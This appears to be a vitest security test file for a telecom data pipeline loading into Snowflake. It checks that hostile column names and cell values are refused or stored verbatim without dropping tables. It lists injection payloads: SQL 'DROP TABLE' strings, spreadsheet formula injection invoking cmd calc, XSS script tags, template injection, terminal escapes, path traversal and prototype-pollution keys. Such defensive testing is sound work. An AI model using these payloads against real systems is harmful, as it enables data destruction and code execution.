import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { GetObjectCommand } from '@aws-sdk/client-s3'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { connectWarehouse, type WarehouseClient, type WarehouseRow } from '../../src/platform/warehouse-client.ts'
import { bucketNames } from '../../src/services/aws/topology.ts'
import { readLoad } from '../extractors/raw-zone.ts'
import {
  agentHeaders,
  callHeaders,
  callKey,
  callRow,
  columnJson,
  csv,
  socialHeaders,
  socialKey,
  socialRow,
  webHeaders,
  webRow,
} from './deliveries.ts'
import type { Ended } from './launch.ts'
import { startThreatWorld, type ThreatWorld } from './threat-world.ts'

/** Names that mean something to SQL, to a template, to a path or to JavaScript. */
const hostileNames = [
  '"); DROP TABLE RAW.CALL_LOGS; --',
  "'); DROP TABLE RAW.CALL_LOGS; --",
  "\\'); DROP TABLE RAW.CALL_LOGS; --",
  '$1',
  '?',
  '{{ env_var("HOME") }}',
  '../../current.json',
  '_load_id',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
]

/** Values that mean something to SQL, to a spreadsheet, to a browser, to a template or to a terminal. */
const hostileValues = [
  "'; DROP TABLE RAW.CALL_LOGS; --",
  '"; DROP TABLE RAW.CALL_LOGS; --',
  "\\'; DROP TABLE RAW.CALL_LOGS; --",
  '=HYPERLINK("http://example.com/?"&A1,"open")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{ 1 / 0 }}',
  '{% do run_query("drop table x") %}',
  '\u001b]0;title\u0007\u001b[31m',
  '\u202eright to left',
  '__proto__',
]

let world: ThreatWorld
let warehouse: WarehouseClient
let tables: WarehouseRow[]

beforeAll(async () => {
  world = await startThreatWorld()
  const { snowflake } = world.services
  await world.launchWell('loader-snowflake', ['migrate'])
  warehouse = await connectWarehouse({
    account: snowflake.account,
    url: `http://${snowflake.host}:${snowflake.port}`,
    user: 'CX_ADMIN',
    privateKeyFile: snowflake.privateKeyFiles.CX_ADMIN,
    database: 'CORETELECOMS',
  })
  tables = await listTables()
})
afterAll(async () => {
  await warehouse.close()
  await world.stop()
})

function listTables(): Promise<WarehouseRow[]> {
  return warehouse.query(
    `SELECT table_schema, table_name FROM INFORMATION_SCHEMA.TABLES WHERE table_schema IN ('RAW', 'OPS') ORDER BY 1, 2`,
  )
}

/** Lands under evolve, loads, and returns what RAW then holds; all tables are still there, and so is every prototype. */
async function landAndLoad(
  app: 'extract-s3' | 'extract-postgres' | 'extract-sheets',
  dataset: string,
  { date, column }: { date: string; column: string },
): Promise<WarehouseRow[]> {
  const flags = ['--dataset', dataset, '--date', date]
  const guards = ['--contract', 'evolve', '--allow-volume-drop', '--allow-quarantined']
  const landed = await world.launch(app, ['run', ...flags, ...guards])
  expect(landed).toMatchObject({ exitCode: 0, added: [], results: [{ status: 'published' }] })
  const loaded = await world.launch('loader-snowflake', ['run', ...flags])
  expect(loaded).toMatchObject({ exitCode: 0, added: [], results: [{ status: 'loaded' }] })
  expect(await listTables()).toEqual(tables)
  const loadId = String(landed.results[0]?.['load_id'])
  return warehouse.query(
    `SELECT ${column} AS value, _extra AS extra FROM RAW.${dataset.toUpperCase()} WHERE _load_id = '${loadId}' ORDER BY _source_row`,
  )
}

/** What `_extra` holds, as pairs: a plain object would hide `__proto__`. */
function extraOf(row: WarehouseRow | undefined): [string, unknown][] {
  return Object.entries(JSON.parse(String(row?.['extra'])) as object)
}

async function refuse(app: 'extract-s3' | 'extract-postgres' | 'extract-sheets', words: string[]): Promise<Ended> {
  const before = await world.keys()
  const ended = await world.launch(app, ['run', ...words])
  expect(ended).toMatchObject({ exitCode: 2, codes: ['header'], added: [] })
  expect(await world.keys()).toEqual(before)
  return ended
}

const sorted = (pairs: [string, unknown][]): [string, unknown][] =>
  pairs.toSorted(([one], [other]) => (one < other ? -1 : 1))
const expectedExtra = sorted(hostileNames.map((name, index) => [name, `value ${index}`]))
const extraCells = hostileNames.map((_, index) => `value ${index}`)

test('the warehouse has tables to lose', () => {
  expect(tables.length).toBeGreaterThan(5)
})

describe('a hostile column name', () => {
  test('in a CSV is refused under freeze, and under evolve it is data all the way into the warehouse', async () => {
    const date = '2025-12-10'
    await world.deliver(
      callKey(date),
      csv([
        [...callHeaders, ...hostileNames],
        [...callRow(date, 'c1'), ...extraCells],
      ]),
    )
    const { text } = await refuse('extract-s3', ['--dataset', 'call_logs', '--date', date])
    expect(text).toContain('DROP TABLE')
    const rows = await landAndLoad('extract-s3', 'call_logs', { date, column: 'complaint_category' })
    expect(rows).toHaveLength(1)
    expect(sorted(extraOf(rows[0]))).toEqual(expectedExtra)
  })

  test('in a JSON document is the same, and so is a row key', async () => {
    const date = '2025-12-11'
    const rows = hostileNames.map((_, index) => [...socialRow(date, `c${index}`), ...extraCells])
    await world.deliver(socialKey(date), columnJson([...socialHeaders, ...hostileNames], rows, hostileNames))
    await refuse('extract-s3', ['--dataset', 'social_media', '--date', date])
    // A row key that is no number cannot be the source's index: the rows are set aside one by one, none is lost.
    const landed = await world.launch('extract-s3', [
      ...['run', '--dataset', 'social_media', '--date', date, '--contract', 'evolve'],
      ...['--allow-quarantined', '--allow-volume-drop'],
    ])
    expect(landed).toMatchObject({ exitCode: 0, added: [], results: [{ read: hostileNames.length }] })
    const load = await readLoad(world.services.aws.administrators.own.clients.s3, landed.results[0]!)
    expect(load.rows.length + load.quarantine.length).toBe(hostileNames.length)

    const other = '2025-12-12'
    await world.deliver(socialKey(other), columnJson([...socialHeaders, ...hostileNames], [rows[0]!.with(8, other)]))
    const [row] = await landAndLoad('extract-s3', 'social_media', { date: other, column: 'complaint_category' })
    expect(sorted(extraOf(row))).toEqual(expectedExtra)
  })

  test('in the database is the same', async () => {
    const date = '2025-12-13'
    await world.deliverTable(date, [...webHeaders, ...hostileNames], [[...webRow(date, 'r1'), ...extraCells]])
    await refuse('extract-postgres', ['--date', date])
    const rows = await landAndLoad('extract-postgres', 'web_forms', { date, column: 'complaint_category' })
    expect(sorted(extraOf(rows[0]))).toEqual(expectedExtra)
  })

  test('in the sheet is the same', async () => {
    await world.deliverSheet([
      [...agentHeaders, ...hostileNames],
      [1000, 'Ada', 'Senior', 'Ohio', ...extraCells],
    ])
    await refuse('extract-sheets', ['--date', '2025-12-14'])
    const rows = await landAndLoad('extract-sheets', 'agents', { date: '2025-12-14', column: 'full_name' })
    expect(sorted(extraOf(rows[0]))).toEqual(expectedExtra)
  })
})

describe('a hostile value', () => {
  const values = (rows: WarehouseRow[]): unknown[] => rows.map((row) => row['value'])

  test('in a CSV lands and is loaded as it was typed', async () => {
    const date = '2025-12-15'
    const rows = hostileValues.map((value, index) => callRow(date, `c${index}`, value))
    await world.deliver(callKey(date), csv([callHeaders, ...rows]))
    const loaded = await landAndLoad('extract-s3', 'call_logs', { date, column: 'complaint_category' })
    expect(values(loaded)).toEqual(hostileValues)
  })

  test('in a JSON document lands and is loaded as it was typed', async () => {
    const date = '2025-12-16'
    const rows = hostileValues.map((value, index) => socialRow(date, `c${index}`, value))
    await world.deliver(socialKey(date), columnJson(socialHeaders, rows))
    const loaded = await landAndLoad('extract-s3', 'social_media', { date, column: 'complaint_category' })
    expect(values(loaded)).toEqual(hostileValues)
  })

  test('in the database lands and is loaded as it was typed', async () => {
    const date = '2025-12-18'
    const rows = hostileValues.map((value, index) => webRow(date, `r${index}`, value))
    await world.deliverTable(date, webHeaders, rows)
    const loaded = await landAndLoad('extract-postgres', 'web_forms', { date, column: 'complaint_category' })
    expect(values(loaded)).toEqual(hostileValues)
  })

  test('in the sheet lands and is loaded as it was typed', async () => {
    await world.deliverSheet([
      [...agentHeaders],
      ...hostileValues.map((value, index) => [1000 + index, value, 'Senior', 'Ohio']),
    ])
    const loaded = await landAndLoad('extract-sheets', 'agents', { date: '2025-12-17', column: 'full_name' })
    expect(values(loaded)).toEqual(hostileValues)
  })
})

test('what an extractor is said to have written is bound into the run log, whatever it says', async () => {
  const hostile = "x'); DROP TABLE RAW.CALL_LOGS; --"
  const file = join(world.folder, 'hostile-run-log.ndjson')
  const error = { code: hostile, message: `${hostile} \\' ? $1`, is_retryable: false }
  const line = {
    type: 'partition',
    app: hostile,
    run_id: hostile,
    dataset: hostile,
    date: '2025-12-10',
    status: 'failed',
  }
  await writeFile(file, `${JSON.stringify({ ...line, exit_code: 2, error })}\n`)
  const words = ['run', '--dataset', 'call_logs', '--date', '2025-12-10', '--run-log', file]
  expect(await world.launch('loader-snowflake', words)).toMatchObject({ exitCode: 0, added: [] })
  const [logged] = await warehouse.query(
    `SELECT app, run_id, dataset, error_code, message FROM OPS.RUN_LOG WHERE status = 'failed' AND partition_date = '2025-12-10'`,
  )
  expect(logged).toEqual({
    app: hostile,
    run_id: hostile,
    dataset: hostile,
    error_code: hostile,
    message: error.message,
  })
  expect(await listTables()).toEqual(tables)
})

test('settings called like the prototype’s members change nothing', async () => {
  const environment = Object.fromEntries(['__proto__', 'constructor', 'prototype'].map((name) => [name, 'polluted']))
  const ended = await world.launch('extract-s3', ['check', '--dataset', 'call_logs', '--date', '2025-12-10'], {
    environment,
  })
  expect(ended.added).toEqual([])
  expect(ended.codes).toEqual(['header'])
})

test('a manifest tells hostile headers as they were', async () => {
  const { s3 } = world.services.aws.administrators.own.clients
  const prefix = 'raw/call_logs/generation_date=2025-12-10/load='
  const key = (await world.keys()).find((each) => each.startsWith(prefix) && each.endsWith('/manifest.json'))
  const { Body } = await s3.send(new GetObjectCommand({ Bucket: bucketNames.own, Key: key }))
  const { headers } = JSON.parse((await Body?.transformToString()) ?? '') as { headers: string[] }
  expect(headers).toEqual([...callHeaders, ...hostileNames])
})
